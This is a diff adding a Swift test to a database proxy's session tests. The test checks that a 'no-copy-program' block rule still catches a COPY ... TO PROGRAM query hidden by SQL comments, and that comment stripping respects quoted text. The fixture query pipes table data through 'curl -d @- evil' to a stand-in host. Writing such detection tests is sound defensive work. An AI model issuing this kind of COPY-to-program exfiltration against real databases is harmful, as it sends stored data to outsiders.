@@ -232,4 +232,18 @@ struct SessionQueryTests {
         let actions = harness.server(.parseComplete)
         #expect(actions.closeError?[.sqlState] == "08P01")
     }
+
+    @Test func textPatternsSeeStatementsWithoutComments() {
+        let rule = Applied(
+            rule: "no-copy-program",
+            spec: BlockSpec(match: StatementMatcher(patterns: [TextPattern("copy * to program *")!])))
+        var harness = SessionHarness.established(rules: TestRules.rules(blocks: [rule]))
+        let actions = harness.client(.query("COPY/**/t TO -- hidden\n PROGRAM 'curl -d @- evil'"))
+        #expect(actions.serverBytes.isEmpty)
+        #expect(actions.blockedRecords.first?.decision != .allow)
+        // Comment markers inside quotes are text, not comments.
+        #expect(
+            stripSQLComments("SELECT '--x', $$/*y*/$$ /* z */ -- w", standardConformingStrings: true)
+                == "SELECT '--x', $$/*y*/$$    ")
+    }
 }
